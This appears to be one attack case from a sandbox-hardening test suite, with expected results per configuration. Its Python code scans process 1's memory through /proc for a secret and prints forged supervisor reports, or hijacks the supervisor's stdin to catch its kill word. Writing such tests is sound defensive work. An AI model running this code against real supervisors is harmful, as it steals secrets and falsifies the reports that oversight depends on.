ATTACK = {
    "title": "Reach the supervisor through /proc/1 and forge its report",
    "category": "supervisor",
    "misconfiguration": "cap_sys_ptrace",
    "given": ["user"],
    "timeout": 3,
    "hardened": "/proc/1/fd, environ and mem give EACCES even to root: the program exits 3 and the verdict says so",
    "ablated": "with CAP_SYS_PTRACE, root takes the secret from process 1's memory, forges the report: exit 0",
    "expect": {
        "hardened": {
            "status": "error",
            "exit_code": 3,
            "report": {"achieved": False, "fds": "EACCES", "environ": "EACCES", "mem": "EACCES", "stdin": "EACCES"},
        },
        "ablated": {
            "status": "ok",
            "exit_code": 0,
            "report": {"achieved": True, "mem": "OK", "secret_candidates": {"min": 1}},
        },
    },
    "gvisor": {
        "why": "gVisor's /proc leaves a non-dumpable process's fd folder and environ open (runsc 20240729): the "
        "program opens the supervisor's stdin (stdout and stderr it has already), not its wake-up socket "
        "pair (ENXIO) nor its memory. A reader of stdin may take the kill word or see the end of file "
        "after it: the kit closes stdin, the supervisor kills, the verdict is the kit's",
        "expect": {
            "status": "timeout",
            "stopped_by": "timeout",
            "signal": "SIGKILL",
            "duration_s": {"max": 20},
            "report": {
                "achieved": False,
                "environ": "read",
                "mem": "EACCES",
                "secret_candidates": 0,
                "stdin": "opened",
                "wakeup": "ENXIO",
                "kill_word": ["not seen", "taken", "end of file"],
            },
        },
    },
    "explain": """
        The report is trusted because it begins with a secret the program never sees, held in
        process 1's memory; process 1's descriptors are the kit's channels. The supervisor is
        non-dumpable, so /proc/1/{fd,environ,mem} need CAP_SYS_PTRACE. Given it (as root), the
        program finds the secret in that memory, prints a report of its own saying it exited 0,
        then exits 3: the kit believes the forged report, which came first.
    """,
}

import contextlib
import errno
import json
import os
import re
import select
import threading
import time


def code(exc):
    return errno.errorcode.get(exc.errno, str(exc.errno))


def emit(facts):
    print("ATTACK_REPORT " + json.dumps(facts), flush=True)


facts, fds, found = {"achieved": False}, {}, []
try:
    fds = {name: os.readlink(f"/proc/1/fd/{name}") for name in os.listdir("/proc/1/fd")}
    facts["fds"] = sorted(target.split(":")[0] for target in fds.values())
except OSError as exc:
    facts["fds"] = code(exc)
try:
    with open("/proc/1/environ", "rb") as theirs:
        facts["environ"] = "read" if theirs.read() else "empty"
except OSError as exc:
    facts["environ"] = code(exc)
try:  # the secret (token_hex(16)): every 32-hex-digit token of process 1's writable memory
    with open("/proc/1/maps") as maps, open("/proc/1/mem", "rb", buffering=0) as mem:
        facts["mem"] = "OK"
        for line in maps:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            if line.split()[1].startswith("rw") and end - start <= 64 << 20:
                with contextlib.suppress(OSError):
                    mem.seek(start)
                    found += re.findall(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])", mem.read(end - start))
except OSError as exc:
    facts["mem"] = code(exc)
found = list(dict.fromkeys(found))[:200]
facts["secret_candidates"] = len(found)
for name, target in fds.items():  # the wake-up channel, opened again
    if target.startswith(("pipe:", "socket:")):
        try:
            os.close(os.open(f"/proc/1/fd/{name}", os.O_RDONLY | os.O_NONBLOCK))
            facts["wakeup"] = "opened"
        except OSError as exc:
            facts["wakeup"] = code(exc)
try:
    stdin, facts["stdin"] = os.open("/proc/1/fd/0", os.O_RDONLY | os.O_NONBLOCK), "opened"
except OSError as exc:
    stdin, facts["stdin"] = None, code(exc)

if found:  # a report for each candidate: the secret's is where the kit's report begins
    emit(dict(facts, achieved=True))
    forged = json.dumps({"v": 1, "exit_code": 0, "signal": None, "killed": False, "elapsed_s": 0.01})
    print("".join(f"{c.decode()} {forged}\n" for c in found), end="", flush=True)
elif stdin is not None:  # race the supervisor for the kit's kill word, at the clock's kill
    emit(dict(facts, kill_word="not seen"))

    def take():
        while True:
            select.select([stdin], [], [])
            try:
                word = os.read(stdin, 64)
            except BlockingIOError:
                continue
            return emit(dict(facts, kill_word="taken" if word else "end of file"))

    threading.Thread(target=take, daemon=True).start()
    time.sleep(15)
else:
    emit(facts)
raise SystemExit(3)
